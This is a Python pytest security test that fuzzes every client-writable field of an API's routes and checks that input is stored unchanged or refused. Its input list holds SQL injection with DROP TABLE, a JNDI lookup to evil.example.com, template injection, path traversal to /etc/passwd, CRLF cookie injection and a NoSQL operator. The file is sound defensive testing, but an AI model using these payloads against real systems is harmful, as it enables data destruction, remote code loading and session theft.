"""Whatever is written wherever a client can write is stored as it is, or refused."""

from collections.abc import Mapping
from uuid import uuid4

import pytest
from httpx2 import AsyncClient, Response

from tests.security.leaks import faults_of
from tests.security.routes import Operation, Part, Place

STRINGS = (
    "' OR 1=1; DROP TABLE items; SELECT pg_sleep(9); -- \" \\' %' UNION SELECT * FROM accounts",
    "$1 :name %(name)s {0} {{7*7}} ${jndi:ldap://evil.example.com} <script>../../etc/passwd%00",
    "a\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "a\x00b",
    "half \ud800 a character",
    "",
    "-1",
    "9" * 9000,
)
OTHER_KINDS: tuple[Part, ...] = (None, 10**400, ["a"], {"$gt": ""})
# It is no string that is stored: an address has one spelling, and a password is told to nobody.
NOT_TOLD = {"email", "password", "refresh_token"}


def changed(asked: Operation, place: Place, response: Response) -> bool:
    """Say whether an answer tells another value than was sent."""
    if place[0] != "body" or place[1] in NOT_TOLD or response.status_code >= 300:
        return False
    return bool(response.json()[place[1]] != asked.body[place[1]])


@pytest.mark.slow
async def test_every_place_of_every_route_takes_it_as_it_is_or_refuses_it(
    operations: list[Operation], client: AsyncClient, mallory: Mapping[str, str]
) -> None:
    faults: list[str] = []
    for operation in operations:
        url = await made_for(operation, operations, client, mallory)
        for place in operation.places:
            for value in STRINGS + (OTHER_KINDS if place[0] == "body" else ()):
                asked = at(operation, url).with_(place, value)
                response = await asked.send(client, mallory)
                found = faults_of(response)
                found += ["was changed"] if changed(asked, place, response) else []
                faults += [f"{operation}, {place} {value!r:.40}: {fault}" for fault in found]
                if "location" in response.headers:
                    await client.delete(
                        response.headers["location"], headers={**mallory, "If-Match": "*"}
                    )

    assert faults == []


async def made_for(
    operation: Operation,
    operations: list[Operation],
    client: AsyncClient,
    headers: Mapping[str, str],
) -> str | None:
    """Make what a route is about, and give its id, so that the route has something to work on."""
    if not operation.sent("path"):
        return None
    collection = operation.path.partition("/{")[0]
    [maker] = [each for each in operations if str(each) == f"POST {collection}"]
    tries = [maker, *(maker.with_(("body", name), uuid4().hex) for name in maker.body)]
    for each in tries:  # what is there already may differ from another in one field only
        response = await each.send(client, headers)
        if response.status_code == 201:
            return str(response.json()["id"])
    raise AssertionError(f"{maker} makes nothing")


def at(operation: Operation, made: str | None) -> Operation:
    """Send a route to what was made for it."""
    if made is None:
        return operation
    [place] = [place for place in operation.parameters if place[0] == "path"]
    return operation.with_(place, made)
